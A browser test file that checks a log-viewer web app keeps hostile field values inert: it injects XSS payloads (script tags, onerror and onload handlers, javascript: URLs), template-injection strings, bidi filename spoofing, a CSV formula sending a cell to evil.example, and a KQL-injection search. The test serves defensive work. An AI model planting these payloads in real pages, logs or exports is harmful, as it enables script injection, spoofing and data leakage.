// Hostile content (issue 6, item 3): log fields are text that anyone who can name an account
// controls. Provisioning events and an audit event whose display names, UPNs, reasons, error
// codes, modified property values (JSON inside strings too), step details, job, cycle, change
// and app names carry markup, script, `javascript:` URLs, template syntax, bidi controls,
// zero-width characters and a 1 MB string are dropped, then every view is visited.
//
// What must hold: no script runs (each payload calls `__pwned`, which the test provides, and
// would also raise a dialog or a CSP violation, both listened for); no element is injected;
// the text is shown literally; a bidi control in a value cannot reorder the page around it
// (each value is shown in a bidi isolate of its own, and the control is made visible as
// ⟨U+202E⟩ so that the admin sees it is there); the 1 MB value keeps its grid row on one line,
// wraps in the details pane, and the page stays responsive; the exports keep the text (the CSV
// formula-safe) and the KQL query keeps a hostile search inside its string literal.

import assert from 'node:assert/strict';
import fs from 'node:fs';
import { dropFiles, gridSettled, openApp, totalRows, waitForLoad } from './lib.mjs';

/** The payloads: each would call `__pwned(tag)` if it ever ran (a few call `alert`, caught as
 * a dialog). */
const P = {
  img: '<img src=x onerror="__pwned(\'img\')">',
  script: '<script>__pwned("script")</script>',
  svg: '"><svg onload="__pwned(\'svg\')">',
  js: 'javascript:__pwned("js")',
  tpl: '{{constructor.constructor("__pwned(1)")()}} ${__pwned(2)} {% raw %}<%= 7*7 %>',
  rlo: 'invoice\u202Egnp.exe',
  iso: '\u2067مرحبا\u2069 \u2066abc\u2069 \u2068open',
  zw: 'ad\u200Bmin\u200C\u200D\uFEFF',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"click")',
};
/** A 1 MB value without a space to break at, marked at both ends. */
const BIG = `BIGSTART${'x'.repeat(1 << 20)}BIGEND`;

/** The bidi controls and zero-width characters the page must show visibly. */
const CONTROLS = /[\u061C\u200B-\u200F\u202A-\u202E\u2060\u2066-\u2069\uFEFF]/g;
/** A value as the page shows it: each control as ⟨U+XXXX⟩. */
const revealed = (s) => s.replace(CONTROLS, (c) => `⟨U+${c.codePointAt(0).toString(16).toUpperCase().padStart(4, '0')}⟩`);

const UPN_A = `mallory${P.zw}@contoso.com`;
const ID_A = 'a0000000-0000-4000-8000-00000000000a';
const ID_B = 'b0000000-0000-4000-8000-00000000000b';
const JOB = `job.${P.svg}`;
const APP = `${P.tpl} ${P.img} ${P.rlo}`;

function provisioningEvent({ id, at, who, upn, status, action = 'update', reason = null, code = null, big = false }) {
  return {
    id,
    activityDateTime: at,
    jobId: JOB,
    cycleId: `cycle ${P.img}`,
    changeId: `change ${P.script} ${id}`,
    provisioningAction: action,
    durationInMilliseconds: 1200,
    provisioningStatusInfo: {
      status,
      errorInformation: status === 'success' ? null : {
        errorCode: code,
        reason,
        additionalDetails: `${P.svg} ${P.iso}`,
        recommendedAction: `${P.js} ${P.script}`,
      },
    },
    provisioningSteps: [
      {
        name: `EntryImport ${P.img}`,
        provisioningStepType: 'Import',
        status: 'success',
        description: `Retrieved ${P.svg} ${P.rlo} ${P.zw}`,
        details: { [P.script]: P.tpl, Url: P.js, Link: 'javascript:alert(1)', userPrincipalName: upn },
      },
      {
        name: 'EntryExportUpdate',
        provisioningStepType: 'Export',
        status,
        description: `Export ${P.script} ${P.iso}${big ? ` ${BIG}` : ''}`,
        details: { ReportableIdentifier: who.id, Note: JSON.stringify({ html: P.img, nested: [P.svg] }) },
      },
    ],
    modifiedProperties: [
      { displayName: P.img, oldValue: JSON.stringify([P.svg]), newValue: JSON.stringify({ a: P.script }) },
      { displayName: 'mail', oldValue: null, newValue: JSON.stringify(P.js) },
      { displayName: 'extensionAttribute1', oldValue: P.rlo, newValue: big ? BIG : P.formula },
    ],
    servicePrincipal: { id: 'sp-1', displayName: APP },
    sourceSystem: { id: 'src-1', displayName: `Source ${P.svg}`, details: {} },
    targetSystem: { id: 'tgt-1', displayName: `Target ${P.script}`, details: {} },
    initiatedBy: { initiatingType: 'system', id: '', displayName: P.img },
    sourceIdentity: { identityType: 'User', id: who.id, displayName: who.name, details: { userPrincipalName: upn } },
    targetIdentity: { identityType: 'User', id: `t-${who.id}`, displayName: `${P.script} target <img src=x onerror=alert(1)>`, details: {} },
  };
}

/** The provisioning events (a Graph page) and the audit events (JSON lines). */
function hostileFiles() {
  const a = { id: ID_A, name: `${P.img} ${P.rlo}` };
  const b = { id: ID_B, name: `Big ${BIG}` };
  const value = [
    provisioningEvent({ id: 'ev-a1', at: '2026-10-05T06:00:00Z', who: a, upn: UPN_A, status: 'failure',
      code: `AzureActiveDirectoryConflict${P.svg}`, reason: `${P.script} ${P.tpl} ${P.iso} ${P.formula}` }),
    provisioningEvent({ id: 'ev-a2', at: '2026-10-05T06:40:00Z', who: a, upn: UPN_A, status: 'failure',
      code: `AzureActiveDirectoryConflict${P.svg}`, reason: `${P.img} again ${P.rlo}` }),
    provisioningEvent({ id: 'ev-b1', at: '2026-10-05T07:00:00Z', who: b, upn: `big@contoso.com`, status: 'skipped',
      action: 'other', code: 'RedundantExport', reason: `Skipped ${BIG}`, big: true }),
    provisioningEvent({ id: 'ev-c1', at: '2026-10-05T08:00:00Z', who: { id: 'c-3', name: `\u202Eevil` }, upn: `"quoted" \\ user@contoso.com`,
      status: 'success' }),
  ];
  const audit = {
    id: 'Sync_hostile_1', category: 'ProvisioningManagement', correlationId: `corr ${P.img}`, result: 'failure',
    resultReason: `${P.script} ${P.rlo} ${P.formula}`, activityDisplayName: 'Export',
    activityDateTime: '2026-10-05T09:00:00Z', loggedByService: 'Account Provisioning', operationType: '',
    initiatedBy: { user: null, app: { appId: null, displayName: APP, servicePrincipalId: null, servicePrincipalName: null } },
    targetResources: [
      { id: 'sp-1', displayName: APP, type: 'ServicePrincipal', userPrincipalName: null, groupType: null, modifiedProperties: [] },
      { id: 'd0000000-0000-4000-8000-00000000000d', displayName: `${P.svg} Dave`, type: 'User', userPrincipalName: `dave${P.rlo}@contoso.com`,
        groupType: null, modifiedProperties: [{ displayName: P.img, oldValue: JSON.stringify(P.script), newValue: JSON.stringify([P.js]) }] },
    ],
    additionalDetails: [
      { key: 'Details', value: `${P.img} ${P.tpl}` },
      { key: 'ErrorCode', value: `Hostile${P.script}` },
      { key: 'EventName', value: 'EntryExportUpdate' },
      { key: 'JoiningProperty', value: `dave${P.rlo}@contoso.com` },
      { key: 'SourceAnchor', value: 'd0000000-0000-4000-8000-00000000000d' },
    ],
  };
  return [
    { name: 'hostile-provisioning.json', content: JSON.stringify({ '@odata.context': 'https://graph.microsoft.com/v1.0/$metadata#auditLogs/provisioning', value }) },
    { name: `hostile-audit ${'\u202E'}lmth.jsonl`, content: `${JSON.stringify(audit)}\n` },
  ];
}

/** Installs the traps: `__pwned`, dialogs, CSP violations. Returns a function that reads them. */
async function trap(page) {
  const dialogs = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    d.dismiss().catch(() => {});
  });
  await page.addInitScript(() => {
    window.__pwnedBy = [];
    window.__pwned = (tag) => window.__pwnedBy.push(String(tag));
    window.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`);
    });
  });
  return async (where) => {
    const seen = await page.evaluate(() => ({
      pwned: window.__pwnedBy,
      csp: window.__cspViolations,
      injected: [...document.querySelectorAll(
        'img[src=x], img[onerror], svg[onload], [onerror], [onload], script:not([src]), script[src]:not([src*="boot"]), a[href^="javascript:" i], [href*="__pwned"], [src*="__pwned"], iframe, object, embed',
      )].map((el) => el.outerHTML.slice(0, 120)),
    }));
    assert.deepEqual(seen.pwned, [], `${where}: no payload ran`);
    assert.deepEqual(dialogs, [], `${where}: no dialog was opened`);
    assert.deepEqual(seen.csp, [], `${where}: no CSP violation (nothing tried to run inline)`);
    assert.deepEqual(seen.injected, [], `${where}: no element was injected`);
  };
}

/** Every text node in `root` holding a bidi control must sit alone in a bidi isolate. */
async function isolated(page, selector, where) {
  const leaks = await page.locator(selector).evaluateAll((roots) => {
    const controls = /[\u202A-\u202E\u2066-\u2069]/;
    const out = [];
    for (const root of roots) {
      const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
      for (let n = walker.nextNode(); n; n = walker.nextNode()) {
        if (!controls.test(n.data)) continue;
        const p = n.parentElement;
        if (p.closest('textarea, input, select, option, title')) continue;
        out.push(n.data.slice(0, 60));
      }
    }
    return out;
  });
  assert.deepEqual(leaks, [], `${where}: every bidi control is shown visibly, none is left to act on the text`);
  // And every value sits in an isolate: the marked elements say so in their computed style.
  const notIsolated = await page.locator(`${selector} .ctl`).evaluateAll((els) => els
    .map((el) => el.closest('bdi, [dir], .iso'))
    .filter((iso) => !iso || !['isolate', 'plaintext', 'isolate-override'].includes(getComputedStyle(iso).unicodeBidi))
    .length);
  assert.equal(notIsolated, 0, `${where}: the values holding controls are bidi isolates`);
}

/** The page answers within `ms` (a frame gets drawn). */
async function responsive(page, where, ms = 1000) {
  const t = await page.evaluate(() => new Promise((resolve) => {
    const t0 = performance.now();
    requestAnimationFrame(() => setTimeout(() => resolve(performance.now() - t0)));
  }));
  assert.ok(t < ms, `${where}: the page answers (${t.toFixed(0)} ms)`);
}

async function innerText(page, selector) {
  return page.locator(selector).first().evaluate((el) => el.innerText);
}

/** Clicks the row of `eventId` and waits for its details. */
async function select(page, eventId) {
  await page.locator(`[data-testid=grid-row][data-event-id="${eventId}"]`).click();
  await page.locator(`[data-testid=event-details][data-event-id="${eventId}"]`).waitFor();
}

const ALL_COLUMNS = 'time,identity,activity,status,reason,error-code,source-system,target-system,job,cycle,change,duration,file';

export const tests = [
  {
    name: 'hostile field values are inert, literal, isolated and laid out in every view',
    timeout: 120_000,
    async run({ page, baseUrl, artifacts }) {
      await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
      const check = await trap(page);
      await openApp(page, baseUrl, `#cols=${ALL_COLUMNS}`);
      await dropFiles(page, hostileFiles());
      const report = await waitForLoad(page);
      assert.equal(report.events, 5, `every hostile event loads: ${JSON.stringify(report)}`);
      await gridSettled(page);
      await check('load');
      await responsive(page, 'after the load');

      // The load report: the file name with its RLO is shown visibly and isolated.
      await isolated(page, '[data-testid=load-report]', 'load report');
      await isolated(page, 'body', 'the page after the load');
      assert.ok((await innerText(page, '[data-testid=load-report]')).includes(revealed('hostile-audit \u202Elmth.jsonl')), 'the file name, control shown');

      // The grid, every column: the text literal, each row one line high.
      const grid = '[data-testid=event-grid]';
      const gridText = await innerText(page, grid);
      for (const text of [P.img, P.script, P.svg.slice(2), revealed(UPN_A), revealed(P.rlo), 'BIGSTART']) {
        assert.ok(gridText.includes(text), `the grid shows ${JSON.stringify(text)} literally`);
      }
      await isolated(page, grid, 'grid');
      const heights = await page.locator('[data-testid=grid-row]').evaluateAll((rows) => rows.map((r) => r.getBoundingClientRect().height));
      assert.equal(heights.length, 5);
      assert.ok(heights.every((h) => h === heights[0] && h < 60), `each row stays one line: ${heights}`);
      const width = await page.evaluate(() => document.documentElement.scrollWidth);
      assert.ok(width <= 1280, `the 1 MB value does not widen the page: ${width} px`);

      // Each event's details, every tab.
      for (const id of ['ev-a1', 'ev-b1', 'ev-c1']) {
        await select(page, id);
        for (const tab of ['steps', 'troubleshooting', 'modified', 'ids', 'raw']) {
          await page.locator(`[data-testid=details-tab][data-tab=${tab}]`).click();
          await page.locator(`[data-testid=details-section][data-tab=${tab}]`).waitFor();
          await check(`${id} details, ${tab}`);
          await isolated(page, '[data-testid=event-details]', `${id} details, ${tab}`);
          const box = await page.locator('[data-testid=event-details]').boundingBox();
          assert.ok(box.width <= 1280, `${id} ${tab}: the details stay in the window (${box.width} px)`);
          const overflow = await page.locator('[data-testid=details-section]').evaluate((el) => el.scrollWidth - el.clientWidth);
          assert.ok(overflow <= 1, `${id} ${tab}: nothing sticks out sideways (${overflow} px)`);
          await responsive(page, `${id} ${tab}`);
        }
      }
      await isolated(page, 'body', 'the page after the details');
      await select(page, 'ev-a1');
      await page.locator('[data-testid=details-tab][data-tab=steps]').click();
      await page.screenshot({ path: `${artifacts}/hostile-steps.png` });
      let details = await innerText(page, '[data-testid=event-details]');
      for (const text of [P.img, P.script, P.svg, P.tpl, revealed(P.zw), P.js]) {
        assert.ok(details.includes(text), `steps show ${JSON.stringify(text)} literally`);
      }
      await page.locator('[data-testid=details-tab][data-tab=troubleshooting]').click();
      details = await innerText(page, '[data-testid=event-details]');
      assert.ok(details.includes(`${P.script} ${P.tpl} ${revealed(P.iso)}`), 'the reason, literal');
      await page.locator('[data-testid=details-tab][data-tab=modified]').click();
      details = await innerText(page, '[data-testid=event-details]');
      assert.ok(details.includes(P.svg) && details.includes(P.js) && details.includes(revealed(P.rlo)), `modified values, decoded and literal: ${details.slice(0, 2000)}`);
      await page.locator('[data-testid=details-tab][data-tab=ids]').click();
      details = await innerText(page, '[data-testid=event-details]');
      assert.ok(details.includes(JOB) && details.includes(revealed(APP)), 'job and app, literal');
      // A copy button copies the value itself, controls and all.
      const upnCopy = page.locator('[data-testid=event-details] dd', { hasText: 'mallory' }).locator('[data-testid=copy-button]');
      await upnCopy.first().click();
      const clip = await page.evaluate(() => navigator.clipboard.readText()).catch(() => null);
      if (clip !== null) assert.ok(clip.includes(UPN_A), `the copy is the exact value: ${JSON.stringify(clip)}`);
      await page.locator('[data-testid=details-tab][data-tab=raw]').click();
      const raw = await page.locator('[data-testid=raw-json]').innerText();
      const parsed = JSON.parse(raw);
      assert.ok(JSON.stringify(parsed).includes(JSON.stringify(P.img).slice(1, -1)), 'the raw JSON holds the text');
      assert.ok(!CONTROLS.test(raw), 'the raw JSON shows controls as \\u escapes');
      CONTROLS.lastIndex = 0;

      // The 1 MB event: its details wrap, with the whole value reachable.
      await select(page, 'ev-b1');
      await page.locator('[data-testid=details-tab][data-tab=troubleshooting]').click();
      const reason = page.locator('[data-testid=event-details] .reason-text').first();
      const rbox = await reason.boundingBox();
      assert.ok(rbox.width < 1280, `the 1 MB reason wraps inside the pane (${rbox.width} px wide)`);
      const shown = await reason.evaluate((el) => el.innerText);
      assert.ok(shown.startsWith('Skipped BIGSTART') && !shown.includes('BIGEND'), 'the 1 MB reason shows its start');
      assert.match(shown, /Show all 1,048,\d{3} characters/, 'and offers the whole of it');
      assert.ok(shown.length < 3000, `only its start is laid out at first (${shown.length} characters)`);
      await reason.locator('[data-testid=more-text] > summary').click();
      const whole = reason.locator('[data-testid=more-text] .more-text-body');
      assert.ok((await whole.innerText()).endsWith('BIGEND'), 'the whole value, to its end, one click away');
      await page.screenshot({ path: `${artifacts}/hostile-1mb.png` });
      const wbox = await whole.boundingBox();
      assert.ok(wbox.height < 800 && wbox.width < 1280, `the whole value scrolls in a box of its own (${wbox.width}×${wbox.height})`);
      await responsive(page, 'the 1 MB details', 2000);

      // The timeline, its verdict and attribute history.
      await select(page, 'ev-a1');
      const timeline = page.locator('[data-testid=user-timeline]');
      await timeline.waitFor();
      assert.equal(await timeline.getAttribute('data-identity'), ID_A);
      await check('timeline');
      await isolated(page, '[data-testid=user-timeline]', 'timeline');
      const tlText = await timeline.innerText();
      assert.ok(tlText.includes(revealed(UPN_A)) || tlText.includes(P.img), 'the identity, literal');
      assert.ok(await page.locator('[data-testid=user-verdict]').count() === 1, 'a verdict');
      const history = page.locator('[data-testid=attribute-history]');
      if (await history.count()) {
        // Closed while an event is open (the pane's room goes to the details): open it.
        if (!(await history.evaluate((d) => d.open))) await history.locator('summary').click();
        assert.ok((await history.innerText()).includes(P.img), 'the attribute history shows the property name literally');
      }
      await select(page, 'ev-b1');
      await page.locator('[data-testid=user-timeline]').waitFor();
      await check('the 1 MB timeline');
      const tlBox = await page.locator('[data-testid=user-timeline]').boundingBox();
      assert.ok(tlBox.width <= 1280, `the 1 MB timeline stays in the window (${tlBox.width} px)`);
      await responsive(page, 'the 1 MB timeline', 2000);

      // The audit event.
      await select(page, 'Sync_hostile_1');
      for (const tab of ['steps', 'troubleshooting', 'modified', 'ids', 'raw']) {
        await page.locator(`[data-testid=details-tab][data-tab=${tab}]`).click();
        await check(`audit details, ${tab}`);
        await isolated(page, '[data-testid=event-details]', `audit details, ${tab}`);
      }

      // Insights: top errors, action matrix.
      await page.locator('[data-testid=insights] > summary').click();
      await page.locator('[data-testid=top-errors]').waitFor();
      await check('insights');
      await isolated(page, '[data-testid=insights]', 'insights');
      assert.ok((await innerText(page, '[data-testid=top-errors]')).includes(P.svg), 'the error code, literal');

      // The filter bar's lists hold the hostile values as options; picking one filters.
      await page.locator('[data-testid=more-filters] > summary').click();
      const jobs = await page.locator('[data-testid=filter-job] option').evaluateAll((os) => os.map((o) => o.value));
      assert.ok(jobs.includes(JOB), `the job list holds the job id: ${JSON.stringify(jobs)}`);
      await page.locator('[data-testid=filter-job]').selectOption(JOB);
      await gridSettled(page);
      assert.equal(await totalRows(page), 4, 'the hostile job id filters its events');
      const apps = await page.locator('[data-testid=filter-app] option').evaluateAll((os) => os.map((o) => o.value));
      assert.ok(apps.includes(APP), `the app list holds the app name: ${JSON.stringify(apps)}`);
      await check('filters');

      // The swimlane.
      await page.locator('[data-testid=view-swimlane]').click();
      await page.locator('[data-testid=swimlane][data-lanes]').waitFor();
      await check('swimlane');
      await isolated(page, '[data-testid=swimlane]', 'swimlane');
      await isolated(page, 'body', 'the page with the swimlane and insights');
      const laneBox = await page.locator('[data-testid=swimlane]').boundingBox();
      assert.ok(laneBox.width <= 1280, `the swimlane stays in the window (${laneBox.width} px)`);
      await page.locator('[data-testid=view-grid]').click();
      await page.locator('[data-testid=clear-filters]').click();
      await gridSettled(page);

      // Exports keep the text; the CSV is formula-safe.
      const [csv] = await Promise.all([page.waitForEvent('download'), page.locator('[data-testid=export-csv]').click()]);
      const csvText = fs.readFileSync(await csv.path(), 'utf8');
      assert.ok(csvText.includes(P.img.replaceAll('"', '""')), 'the CSV keeps the markup as text');
      assert.ok(csvText.includes('BIGSTART') && csvText.includes('BIGEND'), 'the CSV keeps the 1 MB value whole');
      assert.ok(csvText.includes(P.rlo), 'the CSV keeps the controls');
      const cells = csvCells(csvText);
      const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
      assert.deepEqual(risky, [], 'no CSV cell starts a formula');
      assert.ok(cells.some((c) => c.startsWith("'=HYPERLINK")) || cells.some((c) => c.includes(P.formula)), 'the formula text is kept as text');
      const [json] = await Promise.all([page.waitForEvent('download'), page.locator('[data-testid=export-json]').click()]);
      const exported = JSON.parse(fs.readFileSync(await json.path(), 'utf8'));
      const all = JSON.stringify(exported);
      for (const text of [P.img, P.script, P.svg, P.tpl, P.rlo, UPN_A, 'BIGEND']) {
        assert.ok(all.includes(JSON.stringify(text).slice(1, -1)), `the JSON keeps ${JSON.stringify(text.slice(0, 30))}`);
      }
      await check('exports');

      // Copy as KQL: a hostile search stays inside its string literal.
      const search = `"quoted" \\ user | take 1 // ${P.script}`;
      await page.locator('[data-testid=search]').fill(search);
      await gridSettled(page);
      await page.locator('[data-testid=copy-kql]').click();
      const kql = await page.locator('[data-testid=kql-text]').inputValue();
      const literal = `"${search.replaceAll('\\', '\\\\').replaceAll('"', '\\"')}"`;
      assert.ok(kql.includes(`contains ${literal}`), `the search is one escaped literal:\n${kql}`);
      const outside = kql.split('\n').map((line) => stripStrings(line));
      assert.ok(!outside.some((l) => /take 1/.test(l)), `no part of the search is outside a literal:\n${kql}`);
      assert.equal(outside.filter((l) => l.startsWith('| where')).length, kql.split('\n').filter((l) => l.startsWith('| where')).length);
      await page.keyboard.press('Escape');
      await page.locator('[data-testid=kql-popover]').waitFor({ state: 'detached' });
      // A hidden character: KQL has no \u escape, so it goes in by its code point and the
      // query holds no character that could reorder it on screen.
      await page.locator('[data-testid=search]').fill(`${P.rlo}"`);
      await gridSettled(page);
      await page.locator('[data-testid=copy-kql]').click();
      await page.waitForFunction(() => document.querySelector('[data-testid=kql-text]')?.value.includes('unicode_codepoints_to_string'));
      const kql2 = await page.locator('[data-testid=kql-text]').inputValue();
      assert.ok(kql2.includes('contains strcat("invoice", unicode_codepoints_to_string(8238), "gnp.exe\\"")'), `the hidden character by code point:\n${kql2}`);
      assert.ok(!CONTROLS.test(kql2), 'no hidden character in the query');
      CONTROLS.lastIndex = 0;
      await page.keyboard.press('Escape');
      await check('KQL');
      await responsive(page, 'the end');

      // The traps are live: markup put in the page by hand is blocked by the CSP, and seen.
      await page.evaluate(() => {
        const d = document.createElement('div');
        d.innerHTML = '<img src=x onerror="__pwned(\'probe\')">';
        document.body.append(d);
      });
      await page.waitForFunction(() => window.__cspViolations.length > 0, null, { timeout: 5_000 });
      assert.deepEqual(await page.evaluate(() => window.__pwnedBy), [], 'the CSP stopped the probe');
    },
  },
  {
    name: 'without the CSP too, nothing runs: the rendering itself is inert',
    timeout: 90_000,
    async run({ page, baseUrl }) {
      // A context that ignores the page's CSP: what stops the payloads here is that the page
      // writes logged text as text, not a policy that blocks what got in.
      const context = await page.context().browser().newContext({ bypassCSP: true, viewport: { width: 1280, height: 800 } });
      try {
        const p = await context.newPage();
        const errors = [];
        p.on('pageerror', (e) => errors.push(e));
        const check = await trap(p);
        await openApp(p, baseUrl, `#cols=${ALL_COLUMNS}`);
        await dropFiles(p, hostileFiles());
        await waitForLoad(p);
        await gridSettled(p);
        for (const id of ['ev-a1', 'ev-c1', 'Sync_hostile_1']) {
          await select(p, id);
          for (const tab of ['steps', 'troubleshooting', 'modified', 'ids', 'raw']) {
            await p.locator(`[data-testid=details-tab][data-tab=${tab}]`).click();
            await p.locator(`[data-testid=details-section][data-tab=${tab}]`).waitFor();
            await check(`no CSP: ${id} ${tab}`);
          }
        }
        await p.locator('[data-testid=insights] > summary').click();
        await p.locator('[data-testid=view-swimlane]').click();
        await p.locator('[data-testid=swimlane][data-lanes]').waitFor();
        await p.waitForTimeout(300);
        await check('no CSP: insights and swimlane');
        // The trap is live here: injected markup does run.
        await p.evaluate(() => {
          const d = document.createElement('div');
          d.innerHTML = '<img src=x onerror="__pwned(\'probe\')">';
          document.body.append(d);
        });
        await p.waitForFunction(() => window.__pwnedBy.includes('probe'), null, { timeout: 5_000 });
        assert.deepEqual(errors, [], 'no page error');
      } finally {
        await context.close();
      }
    },
  },
  {
    name: 'a link whose hash holds hostile filter values is inert too',
    async run({ page, baseUrl }) {
      const check = await trap(page);
      const hash = `#q=${encodeURIComponent(P.img)}&job=${encodeURIComponent(P.svg)}&app=${encodeURIComponent(P.script)}&id=${encodeURIComponent(P.rlo)}`;
      await openApp(page, baseUrl, hash);
      await dropFiles(page, hostileFiles());
      await waitForLoad(page);
      await gridSettled(page);
      await check('hostile hash');
      assert.equal(await page.locator('[data-testid=search]').inputValue(), P.img, 'the search box holds the text');
      assert.equal(await totalRows(page), 0, 'no job or app of that name');
      await page.locator('[data-testid=clear-filters]').click();
      await page.locator('[data-testid=search]').fill(P.img);
      await gridSettled(page);
      assert.ok((await totalRows(page)) > 0, 'the search finds the markup as text');
      // A UPN with zero-width characters in it is found by its exact text.
      await page.locator('[data-testid=search]').fill(UPN_A);
      await gridSettled(page);
      assert.equal(await totalRows(page), 2, 'both events of that UPN');
      await page.locator('[data-testid=user-timeline]').waitFor();
      assert.equal(await page.locator('[data-testid=user-timeline]').getAttribute('data-identity'), ID_A);
      await check('searches');
    },
  },
];

/** The cells of a CSV text. */
function csvCells(text) {
  const cells = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') { cells.push(cell.replace(/\r$/, '')); cell = ''; } else cell += c;
  }
  if (cell) cells.push(cell);
  return cells;
}

/** A KQL line with its string literals blanked. */
function stripStrings(line) {
  return line.replace(/"(?:[^"\\]|\\.)*"/g, '""');
}
